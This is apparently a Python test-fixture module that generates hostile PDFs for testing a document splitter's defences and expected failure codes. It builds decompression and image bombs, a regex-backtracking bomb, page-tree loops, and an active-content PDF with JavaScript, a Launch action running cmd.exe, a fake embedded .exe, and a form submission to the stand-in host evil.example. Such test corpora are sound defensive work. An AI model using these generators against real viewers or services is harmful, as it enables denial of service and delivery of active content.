"""A generator of crafted, hostile PDFs (each a few KB to a few hundred KB) and what the splitter must make of them.

Every case is built from scratch here (nothing downloaded, nothing committed): decompression bombs, XObject
fan-out, degenerate and giant pages, regex bombs in the text, tens of thousands of pages, deep nesting, page-tree
loops, active content, an image dictionary shared by every page, junk before the header. ``expect`` is the outcome
class: ``split`` (clean split within budget) or a ``reason_code`` of DocumentSplitFailed plus words of the reason.
Used by the unit tests, the real-server test (tansu + SeaweedFS) and ``benchmarks/bench_hostile.py``.
"""

from __future__ import annotations

import io
import re
import zlib
from dataclasses import dataclass, field
from functools import cache

import pikepdf

from smartpost_shared.contracts.common import SplitRule, SplitStrategy

FIXED_1 = SplitRule(strategy=SplitStrategy.FIXED_PAGES, pages_per_letter=1)
IDENTIFIER = SplitRule(strategy=SplitStrategy.IDENTIFIER, identifier_pattern=r"Kontakt-Nr\.?\s*:?\s*(K-\d{6})")


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    expect: str  # "split" or a SplitFailureReason value
    words: tuple[str, ...] = ()  # words the German reason must contain
    rule: SplitRule = FIXED_1
    alternatives: tuple[str, ...] = ()  # other acceptable outcome classes (e.g. a regex bomb that h14 defused)
    notes: str = ""
    checks: dict[str, object] = field(default_factory=dict)


class RawPdf:
    """Writes a PDF object by object (full control: what pikepdf would refuse to produce)."""

    def __init__(self) -> None:
        self.objects: list[bytes] = []

    def add(self, body: bytes | str) -> int:
        self.objects.append(body.encode("latin-1") if isinstance(body, str) else body)
        return len(self.objects)

    def reserve(self) -> int:
        return self.add(b"null")

    def set(self, number: int, body: bytes | str) -> None:
        self.objects[number - 1] = body.encode("latin-1") if isinstance(body, str) else body

    def stream(self, data: bytes, extra: str = "", *, flate_layers: int = 0) -> int:
        for _ in range(flate_layers):
            data = zlib.compress(data, 9)
        filters = ""
        if flate_layers == 1:
            filters = "/Filter /FlateDecode "
        elif flate_layers > 1:
            filters = "/Filter [" + " ".join(["/FlateDecode"] * flate_layers) + "] "
        head = f"<< {filters}{extra} /Length {len(data)} >>\nstream\n".encode()
        return self.add(head + data + b"\nendstream")

    def build(self, root: int, *, prefix: bytes = b"") -> bytes:
        out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets = []
        for number, body in enumerate(self.objects, start=1):
            offsets.append(len(out) - len(prefix))
            out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
        xref = len(out) - len(prefix)
        out += f"xref\n0 {len(self.objects) + 1}\n0000000000 65535 f \n".encode()
        for offset in offsets:
            out += f"{offset:010d} 00000 n \n".encode()
        out += f"trailer\n<< /Size {len(self.objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
        return bytes(out)


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
A4 = "[0 0 595 842]"


def _text(lines: list[str], *, size: int = 11) -> bytes:
    ops = ["BT", f"/F1 {size} Tf", "14 TL", "60 780 Td"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"({escaped}) Tj T*")
    ops.append("ET")
    return "\n".join(ops).encode("latin-1")


def text_pdf(pages: list[list[str]], *, prefix: bytes = b"", box: str = A4) -> bytes:
    pdf = RawPdf()
    catalog = pdf.reserve()
    tree = pdf.reserve()
    font = pdf.add(FONT)
    kids = []
    for lines in pages:
        content = pdf.stream(_text(lines), flate_layers=1)
        kids.append(
            pdf.add(
                f"<< /Type /Page /Parent {tree} 0 R /MediaBox {box} /Resources << /Font << /F1 {font} 0 R >> >> "
                f"/Contents {content} 0 R >>"
            )
        )
    pdf.set(tree, f"<< /Type /Pages /Kids [{' '.join(f'{k} 0 R' for k in kids)}] /Count {len(kids)} >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog, prefix=prefix)


def letter_pages(count: int, *, first: int = 0) -> list[list[str]]:
    return [
        [
            "Hausverwaltung Muster GmbH, Lindenstrasse 5, 12345 Musterstadt",
            f"Herrn Max Mustermann {n}",
            f"Kontakt-Nr.: K-{n:06d}",
            "Sehr geehrte Damen und Herren, anbei die Abrechnung.",
        ]
        for n in range(first, first + count)
    ]


def control_letter() -> bytes:
    """A small, ordinary serial letter: 3 letters of one page each (must always split)."""
    return text_pdf(letter_pages(3))


# -- the cases ---------------------------------------------------------------------------------------------------


@cache
def double_flate_bomb(decoded_mb: int = 512) -> bytes:
    """A content stream of ``decoded_mb`` MB zeros, Flate-compressed twice: a few KB on disk."""
    inner = zlib.compressobj(1)
    chunk = bytes(1 << 20)
    packed = b"".join(inner.compress(chunk) for _ in range(decoded_mb)) + inner.flush()
    outer = zlib.compress(packed, 9)
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    content = pdf.add(
        f"<< /Filter [/FlateDecode /FlateDecode] /Length {len(outer)} >>\nstream\n".encode() + outer + b"\nendstream"
    )
    page = pdf.add(f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << >> /Contents {content} 0 R >>")
    pdf.set(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def image_bomb() -> bytes:
    """An image that claims 100,000 x 100,000 RGB pixels (30 GB decoded) in a few bytes."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    image = pdf.stream(
        bytes(4096),
        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8",
        flate_layers=1,
    )
    content = pdf.stream(b"q 500 0 0 700 40 60 cm /Im0 Do Q")
    page = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /XObject << /Im0 {image} 0 R >> >> "
        f"/Contents {content} 0 R >>"
    )
    pdf.set(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def xobject_fanout(levels: int = 9, fan: int = 10) -> bytes:
    """Form XObjects drawing the next level ``fan`` times: fan**levels text draws from a few KB."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    leaf = pdf.stream(
        b"BT /F1 9 Tf 10 10 Td (Kontakt-Nr.: K-000001 Fan-out) Tj ET",
        f"/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << /Font << /F1 {font} 0 R >> >>",
    )
    current = leaf
    for _ in range(levels):
        body = b" ".join(b"q 1 0 0 1 0.1 0.1 cm /X Do Q" for _ in range(fan))
        current = pdf.stream(
            body, f"/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << /XObject << /X {current} 0 R >> >>"
        )
    content = pdf.stream(b"/X Do")
    page = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /XObject << /X {current} 0 R >> >> "
        f"/Contents {content} 0 R >>"
    )
    pdf.set(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def regex_bomb(run: int = 60_000) -> bytes:
    """``Kontakt-Nr`` followed by a long run of blanks and no number: quadratic for ``\\s*:?\\s*`` patterns."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    blanks = b" " * run
    body = (
        b"BT /F1 1 Tf 60 780 Td (Kontakt-Nr"
        + blanks
        + b"x) Tj ET\nBT /F1 1 Tf 60 700 Td (Kontakt-Nr\t"
        + (b"\t" * run)
        + b"y) Tj ET"
    )
    content = pdf.stream(body, flate_layers=1)
    page = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /Font << /F1 {font} 0 R >> >> "
        f"/Contents {content} 0 R >>"
    )
    pdf.set(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def many_pages(count: int = 30_000) -> bytes:
    """``count`` pages sharing one content stream (a "30,000-page letter"); about 1.6 MB uncompressed."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    content = pdf.stream(_text(["Seite"]), flate_layers=1)
    resources = pdf.add(f"<< /Font << /F1 {font} 0 R >> >>")
    kids = [pdf.add(f"<</Type/Page/Parent {tree} 0 R/Contents {content} 0 R>>") for _ in range(count)]
    pdf.set(
        tree,
        f"<< /Type /Pages /MediaBox {A4} /Resources {resources} 0 R /Kids [{' '.join(f'{k} 0 R' for k in kids)}] "
        f"/Count {count} >>",
    )
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def page_box(box: str, *, pages: int = 2) -> bytes:
    """Pages with the given MediaBox (degenerate or giant), text on them."""
    return text_pdf(letter_pages(pages), box=box)


def deep_nesting(depth: int = 100_000) -> bytes:
    """The page tree's /Kids nested ``depth`` arrays deep."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    content = pdf.stream(_text(["Kontakt-Nr.: K-000001"]))
    page = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /Font << /F1 {font} 0 R >> >> "
        f"/Contents {content} 0 R >>"
    )
    nested = "[" * depth + f"{page} 0 R" + "]" * depth
    pdf.set(tree, f"<< /Type /Pages /Kids {nested} /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def deep_resources(depth: int = 100_000) -> bytes:
    """A page whose resources hold an array nested ``depth`` deep (the pages themselves are fine)."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    content = pdf.stream(_text(["Kontakt-Nr.: K-000001"]))
    nested = "[" * depth + "0" + "]" * depth
    page = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /Font << /F1 {font} 0 R >> "
        f"/Deep {nested} >> /Contents {content} 0 R >>"
    )
    pdf.set(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def page_tree_loop() -> bytes:
    """A /Pages node that lists itself among its kids (next to one real page)."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    content = pdf.stream(_text(["Kontakt-Nr.: K-000001"]))
    page = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /Font << /F1 {font} 0 R >> >> "
        f"/Contents {content} 0 R >>"
    )
    pdf.set(tree, f"<< /Type /Pages /Kids [{page} 0 R {tree} 0 R] /Count 2 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def active_content() -> bytes:
    """Three one-page letters carrying every kind of active content the parts must not carry."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    js = pdf.add("<< /S /JavaScript /JS (app.alert\\('hallo'\\);) >>")
    payload = pdf.stream(b"MZ not really a program", "/Type /EmbeddedFile")
    filespec = pdf.add(f"<< /Type /Filespec /F (rechnung.exe) /UF (rechnung.exe) /EF << /F {payload} 0 R >> >>")
    launch = pdf.add("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")
    kids = []
    for number, lines in enumerate(letter_pages(3)):
        content = pdf.stream(_text(lines), flate_layers=1)
        link = pdf.add(f"<< /Type /Annot /Subtype /Link /Rect [60 600 300 620] /A {launch} 0 R /Border [0 0 0] >>")
        uri = pdf.add(
            "<< /Type /Annot /Subtype /Link /Rect [60 560 300 580] /A << /S /URI /URI (https://example.org) >> >>"
        )
        attachment = pdf.add(
            f"<< /Type /Annot /Subtype /FileAttachment /Rect [400 600 420 620] /FS {filespec} 0 R /Name /PushPin >>"
        )
        widget = pdf.add(
            "<< /Type /Annot /Subtype /Widget /FT /Btn /T (knopf) /Rect [400 500 500 520] "
            f"/A << /S /JavaScript /JS (this.submitForm\\('https://evil.example'\\);) /Next {js} 0 R >> "
            "/AA << /E << /S /JavaScript /JS (1) >> >> >>"
        )
        kids.append(
            pdf.add(
                f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /Font << /F1 {font} 0 R >> >> "
                f"/Contents {content} 0 R /Annots [{link} 0 R {uri} 0 R {attachment} 0 R {widget} 0 R] "
                f"/AA << /O {js} 0 R >> /AF [{filespec} 0 R] /StructParents {number} >>"
            )
        )
    xfa = pdf.stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.set(tree, f"<< /Type /Pages /Kids [{' '.join(f'{k} 0 R' for k in kids)}] /Count {len(kids)} >>")
    pdf.set(
        catalog,
        f"<< /Type /Catalog /Pages {tree} 0 R /OpenAction {js} 0 R /AA << /WC {js} 0 R >> "
        f"/Names << /JavaScript << /Names [(a) {js} 0 R] >> /EmbeddedFiles << /Names [(rechnung.exe) {filespec} 0 R] >> >> "
        f"/AcroForm << /Fields [] /XFA {xfa} 0 R >> >>",
    )
    return pdf.build(catalog)


@cache
def shared_images(pages: int = 400, image_kb: int = 10) -> bytes:
    """``pages`` one-page letters; every page names all ``pages`` images in one shared /XObject dictionary but
    draws only its own (an export that writes one resource dictionary for the whole document)."""
    import random

    rng = random.Random(7)
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    side = int((image_kb * 1024) ** 0.5)
    images = [
        pdf.stream(
            rng.randbytes(side * side),
            f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceGray /BitsPerComponent 8",
            flate_layers=1,
        )
        for _ in range(pages)
    ]
    xobjects = pdf.add("<< " + " ".join(f"/Im{n} {ref} 0 R" for n, ref in enumerate(images)) + " >>")
    resources = pdf.add(f"<< /Font << /F1 {font} 0 R >> /XObject {xobjects} 0 R >>")
    kids = []
    for n, lines in enumerate(letter_pages(pages)):
        content = pdf.stream(_text(lines) + f"\nq 100 0 0 100 400 650 cm /Im{n} Do Q".encode(), flate_layers=1)
        kids.append(pdf.add(f"<< /Type /Page /Parent {tree} 0 R /Resources {resources} 0 R /Contents {content} 0 R >>"))
    pdf.set(tree, f"<< /Type /Pages /MediaBox {A4} /Kids [{' '.join(f'{k} 0 R' for k in kids)}] /Count {len(kids)} >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


def broken_page() -> bytes:
    """Two pages; the second's content is not a stream but a dangling reference and its box is garbage."""
    pdf = RawPdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(FONT)
    content = pdf.stream(_text(["Kontakt-Nr.: K-000001"]))
    good = pdf.add(
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << /Font << /F1 {font} 0 R >> >> "
        f"/Contents {content} 0 R >>"
    )
    bad = pdf.add(f"<< /Type /Page /Parent {tree} 0 R /MediaBox [/a /b] /Contents 999 0 R >>")
    pdf.set(tree, f"<< /Type /Pages /Kids [{good} 0 R {bad} 0 R] /Count 2 >>")
    pdf.set(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return pdf.build(catalog)


ACTIVE_MARKERS = re.compile(
    rb"/(JavaScript|JS|Launch|EmbeddedFiles?|FileAttachment|OpenAction|AA|XFA|EF|AF|SubmitForm)(?![A-Za-z0-9])"
)


def active_markers(part: bytes) -> list[str]:
    """Active-content keys and names left anywhere in a stored part (object streams expanded by pikepdf)."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(part)) as pdf:
        for obj in pdf.objects:
            node = pikepdf.Dictionary(obj.stream_dict) if isinstance(obj, pikepdf.Stream) else obj
            if isinstance(node, (pikepdf.Dictionary, pikepdf.Array)):
                found.update(m.decode() for m in ACTIVE_MARKERS.findall(node.unparse(resolved=True)))
    return sorted(found)


def cases(*, bomb_mb: int = 1024, pages: int = 30_000) -> list[Case]:
    """The corpus; sizes chosen so that every case is under 1 MB except ``many_pages`` (~1.6 MB)."""
    return [
        Case("double-flate-bomb", double_flate_bomb(bomb_mb), "corrupt", ("entpackte Daten",)),
        Case("image-bomb", image_bomb(), "corrupt", ("entpackte Daten",)),
        Case("xobject-fan-out", xobject_fanout(), "corrupt", ("erlaubten Zeit",), alternatives=("split",)),
        Case("regex-bomb", regex_bomb(), "split", rule=IDENTIFIER, alternatives=("no_letter_found", "corrupt")),
        Case("many-pages", many_pages(pages), "corrupt", ("Seiten", "höchstens")),
        Case("zero-width-page", page_box("[0 0 0 842]"), "split"),
        Case("hair-thin-page", page_box("[0 0 0.01 842]"), "split"),
        Case("giant-page", page_box("[0 0 200000 200000]"), "corrupt", ("größer als jedes Papierformat",)),
        Case("deep-nesting", deep_nesting(), "corrupt", ("verschachtelt",)),
        Case("deep-resources", deep_resources(), "split", alternatives=("corrupt",)),
        Case("page-tree-loop", page_tree_loop(), "split", alternatives=("corrupt",)),
        Case("active-content", active_content(), "split"),
        Case("junk-before-header", text_pdf(letter_pages(2), prefix=b"GARBAGE\r\n" * 20), "split"),
        Case("broken-page", broken_page(), "corrupt", alternatives=("split",)),
        Case("not-a-pdf", b"<html><body>Anmeldung abgelaufen</body></html>", "not_a_pdf", ("keine PDF-Datei",)),
        Case("truncated", control_letter()[:400], "corrupt", ("beschädigt",)),
    ]
